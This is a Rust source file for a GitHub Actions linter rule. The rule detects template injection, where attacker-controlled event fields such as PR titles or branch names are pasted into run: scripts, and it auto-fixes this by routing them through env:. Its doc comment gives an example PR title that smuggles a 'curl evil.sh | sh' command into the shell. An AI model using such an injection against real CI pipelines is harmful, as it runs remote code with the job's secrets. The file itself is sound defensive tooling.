//! ## What it does
//! Flags `${{ ... }}` expressions in `run:` scripts (and in
//! `actions/github-script`'s `script:`) that expand attacker-controlled
//! values: issue, pull request, comment and review titles and bodies, commit
//! messages and authors, head branch names (`github.head_ref`), and the same
//! fields of a `workflow_run`.
//!
//! ## Why it matters
//! The expression is pasted into the script before the shell reads it: a PR
//! titled `"; curl evil.sh | sh; echo "` runs that command with the job's
//! token and secrets.
//!
//! zizmor's `template-injection` audit checks this more deeply; this rule
//! keeps the common cases in the editor.
//!
//! ## Fix
//! zizmor's remedy, format-preserving: the expression moves into the step's
//! `env:` under a new variable (`PULL_REQUEST_TITLE` for
//! `github.event.pull_request.title`), and each place the script pasted it
//! reads the variable instead, quoted as its place needs (`"$VAR"` outside
//! quotes, `${VAR}` inside double quotes, `'"$VAR"'` inside single quotes).
//! No fix is offered inside backquotes or here-documents, where the quoting
//! is not plain, nor for `actions/github-script` (read `process.env` there).
//!
//! ## Example
//! ```yaml
//! - run: echo "Title: ${{ github.event.pull_request.title }}"
//! ```
//!
//! ## Safe alternative
//! ```yaml
//! - env:
//!     TITLE: ${{ github.event.pull_request.title }}
//!   run: echo "Title: $TITLE"
//! ```

use super::{fix, local_steps, node};
use crate::analysis::pipeline::{Pipeline, Run};
use crate::finding::{Finding, Fix, MigrationClass, Severity};
use crate::fixes;
use crate::rules::{Check, Rule};
use crate::syntax::shell::{Quoting, quoting_at};
use crate::syntax::yaml::{Anchor, YamlPath};

pub static RULE: Rule = Rule {
    id: "template-injection",
    severity: Severity::Error,
    class: MigrationClass::Any,
    default_enabled: true,
    summary: "An attacker-controlled `${{ }}` value is pasted into a script",
    source: include_str!("template_injection.rs"),
    check: Check::Pipeline(check),
};

const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages",
    "github.event.commits",
    "github.event.head_commit.message",
    "github.event.head_commit.author",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit",
    "github.event.workflow_run.display_title",
    "github.head_ref",
];

fn check(p: &Pipeline, out: &mut Vec<Finding>) {
    for (_, step) in local_steps(p) {
        if let Some(run) = &step.run {
            scan(p, &run.text, &run.path, Some(run), out);
        }
        if step.uses_action("actions/github-script")
            && let Some((script, path)) = step.input("script")
        {
            scan(p, script, path, None, out);
        }
    }
}

/// Reports each untrusted expression of `text`, the scalar at `path`; with
/// the fix when `text` is a shell script (`run`).
fn scan(p: &Pipeline, text: &str, path: &YamlPath, run: Option<&Run>, out: &mut Vec<Finding>) {
    let mut from = 0;
    while let Some(open) = text[from..].find("${{").map(|i| from + i) {
        let close = text[open..].find("}}").map_or(text.len(), |i| open + i + 2);
        let expression: String = text[open..close]
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect();
        if let Some(context) = UNTRUSTED.iter().find(|u| expression.contains(*u)) {
            out.extend(
                RULE.finding_at(
                    p.docs,
                    path,
                    Anchor::Text(open..close),
                    format!("`{context}` is attacker-controlled and is pasted into the script: pass it through `env:` instead"),
                )
                .map(|f| f.with_fix(run.and_then(|run| through_env(p, run, &text[open..close], context)))),
            );
        }
        from = close;
    }
}

/// Moves `expression` (as written) into the step's `env:` and makes every
/// place the script pastes it read the variable.
fn through_env(p: &Pipeline, run: &Run, expression: &str, context: &str) -> Option<Fix> {
    if !p.build_fixes {
        return None;
    }
    let value = node(p, &run.path)?;
    let step = node(p, &run.path.parent())?;
    let env = step.get("env");
    let taken = |name: &str| env.and_then(|env| env.get(name));
    // A name of its own, or the one already holding this very expression.
    let base = variable(expression, context);
    let name = (1..100)
        .map(|n| {
            if n == 1 {
                base.clone()
            } else {
                format!("{base}_{n}")
            }
        })
        .find(|name| taken(name).is_none_or(|v| v.str() == Some(expression)))?;
    let mut edits = Vec::new();
    for (at, _) in run.text.match_indices(expression) {
        let reference = match quoting_at(&run.text, at)? {
            Quoting::Bare => format!("\"${name}\""),
            Quoting::Double => format!("${{{name}}}"),
            Quoting::Single => format!("'\"${name}\"'"),
        };
        edits.push(fixes::yaml::replace_text(
            p.text,
            value,
            at..at + expression.len(),
            &reference,
        )?);
    }
    let entry = format!("{name}: {}", fixes::yaml::scalar(expression));
    match env {
        Some(_) if taken(&name).is_some() => {}
        Some(env) => edits.push(fixes::yaml::insert_entry(p.text, env, &[], &entry)?),
        None => edits.push(fixes::yaml::insert_entry(
            p.text,
            step,
            &["name", "id", "if"],
            &format!("env:\n  {entry}"),
        )?),
    }
    // Edits apply in the order of the text.
    edits.sort_by_key(|e| e.range.start);
    fix(
        format!("Pass `{context}` through `env:` as `${name}`"),
        Some(edits),
    )
}

/// An environment variable name for an expression: its context path without
/// `github.event.`, upper-cased (`PULL_REQUEST_TITLE`, `GITHUB_HEAD_REF`).
fn variable(expression: &str, context: &str) -> String {
    let inner = expression
        .trim_start_matches("${{")
        .trim_end_matches("}}")
        .trim();
    let path = if inner
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '[' | ']'))
    {
        inner
    } else {
        context
    };
    let path = path.strip_prefix("github.event.").unwrap_or(path);
    let mut name = String::new();
    for c in path.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_uppercase());
        } else if !name.is_empty() && !name.ends_with('_') {
            name.push('_');
        }
    }
    let name = name.trim_end_matches('_');
    match name.chars().next() {
        Some(c) if !c.is_ascii_digit() => name.to_string(),
        _ => format!("GH_{name}"),
    }
}

#[cfg(test)]
mod tests {
    use super::variable;

    #[test]
    fn variables_are_named_after_the_context() {
        let name = |e: &str| variable(e, "github.event.pages");
        assert_eq!(
            name("${{ github.event.pull_request.title }}"),
            "PULL_REQUEST_TITLE"
        );
        assert_eq!(name("${{ github.head_ref }}"), "GITHUB_HEAD_REF");
        assert_eq!(
            name("${{ github.event.pages[0].page_name }}"),
            "PAGES_0_PAGE_NAME"
        );
        assert_eq!(name("${{ toJSON(github.event.pages) }}"), "PAGES");
    }
}
